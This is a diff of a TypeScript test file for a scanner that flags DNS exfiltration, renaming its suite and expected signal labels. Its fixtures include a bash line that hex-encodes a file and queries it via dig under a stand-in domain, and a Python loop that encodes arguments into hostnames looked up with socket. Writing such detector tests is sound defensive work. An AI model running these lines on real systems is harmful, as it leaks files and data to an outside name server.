@@ -8,10 +8,10 @@ const shell = (script: string, body = "") =>
     "scripts/a.sh": `#!/bin/bash\n${script}\n`,
   });
 
-describe("R05: data in names", () => {
+describe("exfiltration: data in names", () => {
   it("asks about lookups of made-up names under a domain of which no page tells", async () => {
     expect(await shell('p=$(xxd -p "$1" | head -c 60)\ndig +short "$p.1.w.count.example"')).toEqual([
-      "R05.data_in_names suspicious scripts/a.sh",
+      "exfiltration.dns suspicious scripts/a.sh",
     ]);
     expect(
       await signalsOf(dnsExfiltration, {
@@ -19,7 +19,7 @@ describe("R05: data in names", () => {
         "scripts/a.py":
           "import socket, sys\nfor w in sys.argv:\n    socket.gethostbyname(w.encode().hex() + '.w.count.example')\n",
       }),
-    ).toEqual(["R05.data_in_names suspicious scripts/a.py"]);
+    ).toEqual(["exfiltration.dns suspicious scripts/a.py"]);
   });
 
   it("lets a domain be looked up that is given, told or made for such questions", async () => {
